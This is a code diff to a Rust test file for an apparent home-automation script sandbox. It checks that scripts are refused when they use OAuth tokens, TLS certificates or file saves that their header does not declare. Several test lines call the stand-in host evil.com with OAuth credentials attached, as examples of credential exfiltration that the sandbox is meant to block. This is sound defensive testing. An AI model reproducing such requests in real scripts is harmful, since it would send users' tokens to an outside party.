@@ -33,6 +33,7 @@ fn declared_host(files: &[(&str, &str)], allow: &[&str]) -> (Host, Asked, tempfi
         targets: json!({
             "light": {
                 "porch": {"driver": "wled", "url": "http://10.0.0.5"},
+                "yard": {"driver": "wled", "url": "https://10.0.0.7", "tls": "yard", "oauth": "yard"},
                 "hall": {"driver": "hue", "url": "https://10.0.0.2", "key": {"$secret": "light.hall.key"}, "id": "abc"},
             },
             "message": {
@@ -267,6 +268,30 @@ on(\"**\", |event| {
 });";
     let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(ok(run).actions.len(), 3);
+}
+
+#[test]
+fn tokens_certificates_and_files_of_a_request_have_to_be_declared() {
+    let header = "//! needs: event **, http evil.com, light *, message office";
+    for body in [
+        "http::send(\"http://evil.com/\", #{ auth: #{ oauth: \"google\" } });",
+        "http::get(\"http://evil.com/\", #{ auth: #{ oauth: \"yard\" } });",
+        "http::get(\"https://evil.com/\", #{ tls: \"yard\" });",
+        "http::get(\"https://10.0.0.2/\", #{ tls: \"yard\" });",
+        "http::get(\"http://evil.com/\", #{ save: \"a.jpg\" });",
+    ] {
+        let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
+        let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
+        assert!(refused(&run.outcome).is_some(), "{body}: {:?}", run.outcome);
+        assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
+    }
+    let honest = "//! needs: event **, light yard, http evil.com, oauth goo*, tls bridge, file *.jpg
+on(\"**\", |event| {
+    http::send(\"https://10.0.0.7/\", #{ auth: #{ oauth: \"yard\" }, tls: \"yard\" });
+    http::send(\"https://evil.com/\", #{ auth: #{ oauth: \"google\" }, tls: \"bridge\", save: \"a.jpg\" });
+});";
+    let (run, _) = tried(&[], &[], honest).unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(ok(run).actions.len(), 2);
 }
 
 /// What is wrong with a script that hears this under this header; nothing when it loads.
